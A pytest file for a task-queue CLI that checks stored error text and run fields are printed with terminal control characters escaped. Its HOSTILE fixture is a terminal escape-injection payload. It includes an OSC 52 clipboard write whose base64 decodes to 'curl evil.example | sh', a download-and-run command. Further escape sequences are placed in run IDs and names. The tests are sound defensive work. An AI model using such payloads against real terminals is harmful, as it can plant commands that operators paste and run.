"""`tasklease runs show` / `runs list` print stored strings with control characters escaped.

A handler's error text can quote its caller's payload; printed raw, an escape sequence in it
runs in the operator's terminal (set the title, hide what follows, write the clipboard with
OSC 52).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tasklease import cli
from tasklease.producer import MemoryTransport, Producer
from tasklease.worker import PermanentFailure, Router, TaskContext, create_app
from tasklease.worker.core.records import RunStatus
from tasklease.worker.stores import SqliteStore
from tests.support.helpers import T0, claim_request

# OSC 52 (write the clipboard), OSC 0 (set the title), and "conceal" for what follows.
HOSTILE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;owned\x07\x1b[8m\r\x9b2J"


def printed(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert cli.main(list(argv)) == 0
    captured = capsys.readouterr()
    return captured.out + captured.err


def assert_no_control_characters(text: str) -> None:
    controls = {ch for ch in text if (ord(ch) < 0x20 and ch != "\n") or 0x7F <= ord(ch) < 0xA0}
    assert not controls, sorted(controls)


def test_error_text_quoting_a_callers_payload_is_printed_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    router = Router()

    @router.task("order")
    def order(payload: Any, ctx: TaskContext) -> None:
        raise PermanentFailure(f"unknown sku {payload['sku']}")

    path = tmp_path / "runs.db"
    store = SqliteStore(path)
    client = create_app(router, store=store, auth="none").test_client()
    queue = MemoryTransport()
    Producer("p", "l", "q", "https://w.example", transport=queue).enqueue("order", {"sku": HOSTILE})
    [task] = queue.tasks
    assert queue.deliver(task, client.post, "q") == 200
    [dead] = store.query_runs().runs
    store.close()
    assert dead.status is RunStatus.FAILED and HOSTILE in (dead.error or "")
    url = f"sqlite:///{path}"
    for argv in (("runs", "show", dead.run_id), ("runs", "list")):
        text = printed(capsys, *argv, "--store", url)
        assert_no_control_characters(text)
        assert "unknown sku \\x1b]52;c;" in text


def test_every_stored_string_shown_is_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "runs.db"
    store = SqliteStore(path)
    request = claim_request(
        "run\x1b[2J",
        handler="h\x1b]0;t\x07",
        identity={"queue": "default", "task_name": "t\x1b[8m"},
        caller="ops\x1b[8m@example.com",
    )
    store.claim(request, T0)
    store.fail("run\x1b[2J", "attempt-1", "first line\x1b[8m\nsecond\x07", T0, "{}")
    store.close()
    url = f"sqlite:///{path}"
    for argv in (("runs", "show", "run\x1b[2J"), ("runs", "list")):
        text = printed(capsys, *argv, "--store", url)
        assert_no_control_characters(text.replace("\n", ""))
        assert "h\\x1b]0;t\\x07" in text and "run\\x1b[2J" in text
    show = printed(capsys, "runs", "show", "run\x1b[2J", "--store", url)
    assert "first line\\x1b[8m\\nsecond\\x07" in show
    assert "t\\x1b[8m" in show and "ops\\x1b[8m@example.com" in show
